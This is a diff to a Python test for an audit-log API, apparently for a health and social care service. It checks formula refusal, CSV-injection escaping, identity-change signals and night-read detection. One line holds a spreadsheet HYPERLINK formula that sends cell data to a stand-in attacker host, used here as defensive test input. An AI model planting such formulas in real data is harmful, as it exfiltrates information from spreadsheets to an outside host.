@@ -10,7 +10,7 @@ from __future__ import annotations
 import csv
 import io
 from collections.abc import AsyncIterator
-from datetime import datetime, timedelta
+from datetime import UTC, datetime, timedelta
 from zoneinfo import ZoneInfo
 
 import httpx
@@ -69,10 +69,22 @@ async def test_the_officer_reads_the_log_across_teams_filters_it_and_sees_patter
         assert (await api.get(f"/pathways/{pathway_id}", headers=org.social_worker.auth)).status_code == 200
     assert (await api.get(f"/pathways/{ids[0]}", headers=org.outsider.auth)).status_code in (403, 404)
     assert (await api.get("/pathways/pathway-nothing-here", headers=org.outsider.auth)).status_code == 404
+    # A purpose is typed by the reader: one shaped like a spreadsheet formula is refused, and audited as typed.
+    formula = '=HYPERLINK("https://evil.example/?"&A2,"open")'
+    assert (
+        await api.get(f"/pathways/{ids[2]}", headers=org.nurse.auth, params={"purpose": formula})
+    ).status_code == 422
+    # An administrator links the identity someone signs in as: worth a look whatever the count.
+    linked = await api.put(f"/staff/{org.nurse.staff_id}/identity", headers=org.admin.auth, json={"subject": "sub-1"})
+    assert linked.status_code == 200, linked.text
     # A read at 23:30 Finnish time (written as the audit writes it).
     night = datetime(2026, 12, 5, 23, 30, tzinfo=ZoneInfo("Europe/Helsinki"))
     with Session(sqlite_engine) as session:
-        session.add(AuditLogEntry(at=night, staff_id=org.nurse.staff_id, pathway_id=ids[1], action="read_record"))
+        # In UTC, as the audit keeps every line (SQLite keeps the text it is given).
+        line = AuditLogEntry(
+            at=night.astimezone(UTC), staff_id=org.nurse.staff_id, pathway_id=ids[1], action="read_record"
+        )
+        session.add(line)
         session.commit()
 
     page = await api.get("/audit", headers=officer.auth, params={"limit": 500})
@@ -99,6 +111,8 @@ async def test_the_officer_reads_the_log_across_teams_filters_it_and_sees_patter
     assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
     rows = list(csv.reader(io.StringIO(exported.text)))
     assert rows[0] == ["at", "staff_id", "pathway_id", "action", "purpose", "outcome"]
+    # The typed formula comes out as text a spreadsheet does not run (OWASP CSV injection).
+    assert [row[4] for row in rows if "HYPERLINK" in row[4]] == [f"'{formula}"]
     all_reads = (await api.get("/audit", headers=officer.auth, params={"action": "read", "limit": 500})).json()
     assert len(rows) - 1 == all_reads["total"]
     assert REASON not in exported.text
@@ -113,13 +127,20 @@ async def test_the_officer_reads_the_log_across_teams_filters_it_and_sees_patter
     )
     assert found.status_code == 200, found.text
     kinds = [(signal["kind"], signal["staff_id"], signal["count"]) for signal in found.json()]
-    # Refused attempts first, then reading outside one's caseload, then the night.
+    # Refused attempts first, then identity changes, then reading outside one's caseload, then the night.
     assert kinds[0] == ("refused_attempts", org.outsider.staff_id, 2)
+    assert ("identity_changes", org.admin.staff_id, 1) in kinds
     assert ("outside_caseload", org.social_worker.staff_id, 21) in kinds
-    assert kinds[-1] == ("night_reads", org.nurse.staff_id, 1)
-    assert [kind for kind, _, _ in kinds] == sorted(
-        (kind for kind, _, _ in kinds), key=["refused_attempts", "outside_caseload", "night_reads"].index
-    )
+    # The night is Finnish time (this test's own reads may fall in it too, when the suite runs at night).
+    at_night = await api.get("/audit/signals", headers=officer.auth, params=period)
+    assert [(signal["kind"], signal["staff_id"], signal["count"]) for signal in at_night.json()] == [
+        ("night_reads", org.nurse.staff_id, 1)
+    ]
+    order = ["refused_attempts", "identity_changes", "outside_caseload", "night_reads"]
+    assert [kind for kind, _, _ in kinds] == sorted((kind for kind, _, _ in kinds), key=order.index)
+    # An administrator's changes are found by their family too.
+    changes = (await api.get("/audit", headers=officer.auth, params={"action": "link_identity"})).json()
+    assert [entry["action"] for entry in changes["entries"]] == [f"link_identity:{org.nurse.staff_id}"]
 
     # The officer's own monitoring is on record too.
     with Session(sqlite_engine) as session:
